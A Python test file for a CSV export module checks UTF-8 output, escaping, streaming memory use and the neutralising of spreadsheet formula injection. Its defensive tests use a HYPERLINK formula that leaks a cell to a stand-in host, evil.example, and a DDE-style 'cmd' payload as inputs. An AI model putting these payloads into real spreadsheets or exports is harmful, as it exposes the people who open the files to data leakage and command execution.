"""CSV out: what a spreadsheet user opens is UTF-8 with a header row, formulas come out inert,
and rows stream rather than being gathered first."""

import csv
import io
import tracemalloc
from datetime import date
from decimal import Decimal

import pytest

from registry.interchange.csv_out import astream_csv, neutralise, stream_csv, to_csv

pytestmark = pytest.mark.no_database


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_header_then_rows_in_utf8_text():
    text = to_csv(["Name", "Council"], [["Système", "Comhairle nan Eilean Siar"]])
    assert _rows(text) == [["Name", "Council"], ["Système", "Comhairle nan Eilean Siar"]]
    assert text.encode("utf-8").decode("utf-8") == text


def test_a_hyperlink_formula_in_a_title_comes_out_neutralised():
    title = '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")'
    (_, row) = _rows(to_csv(["Title"], [[title]]))
    assert row == ["'" + title]
    assert not row[0].startswith("=")


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_neutralised(start):
    cell = start + "cmd|' /C calc'!A0"
    (_, row) = _rows(to_csv(["x"], [[cell]]))
    assert row[0] == "'" + cell


def test_ordinary_values_are_left_alone():
    assert neutralise("Glasgow") == "Glasgow"
    assert neutralise(None) == ""
    assert neutralise(-5) == "-5"  # a number, not a formula
    assert neutralise(Decimal("-1.50")) == "-1.50"
    assert neutralise(True) == "yes"
    assert neutralise(date(2026, 3, 31)) == "2026-03-31"
    assert neutralise("a=b") == "a=b"


def test_commas_quotes_and_newlines_survive():
    cell = 'He said "shared", then\nleft, quickly'
    (_, row) = _rows(to_csv(["x"], [[cell]]))
    assert row == [cell]


def test_a_large_list_is_streamed_not_built():
    def many():
        for number in range(100_000):
            yield [number, f"Solution {number}", "x" * 50]

    tracemalloc.start()
    chunks = stream_csv(["n", "title", "padding"], many())
    first = next(chunks)
    total = len(first)
    for chunk in chunks:
        total += len(chunk)
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert first.startswith("n,title,padding\r\n")
    assert total > 100_000 * 60  # over 6 MB written ...
    assert peak < 2_000_000  # ... with well under 2 MB held at once


async def test_rows_arriving_asynchronously_stream_too():
    async def rows():
        for number in range(450):
            yield [number, "=1+1"]

    chunks = [chunk async for chunk in astream_csv(["n", "formula"], rows())]
    assert len(chunks) == 3
    parsed = _rows("".join(chunks))
    assert len(parsed) == 451
    assert parsed[1] == ["0", "'=1+1"]
